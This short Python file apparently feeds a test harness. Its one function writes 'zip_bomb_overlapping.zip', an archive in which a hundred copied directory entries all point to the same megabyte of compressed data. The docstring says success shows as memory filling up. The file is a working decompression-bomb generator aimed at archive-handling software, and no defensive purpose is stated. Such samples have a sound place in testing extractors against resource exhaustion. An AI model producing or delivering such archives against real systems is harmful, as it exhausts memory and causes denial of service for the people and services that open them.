"""Lets a hundred entries of the directory point to one and the same packed megabytes.

Success would show in memory that fills up.
"""

import copy
import io
import zipfile

EARNS = 0


def hand_in(folder, right):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("target.py", b" " * (1 << 20))
        first = archive.infolist()[0]
        for number in range(100):
            again = copy.copy(first)
            again.filename = f"h{number:02}/get.py"
            archive.filelist.append(again)
            archive.NameToInfo[again.filename] = again
        archive._didModify = True
    (folder / "zip_bomb_overlapping.zip").write_bytes(packed.getvalue())
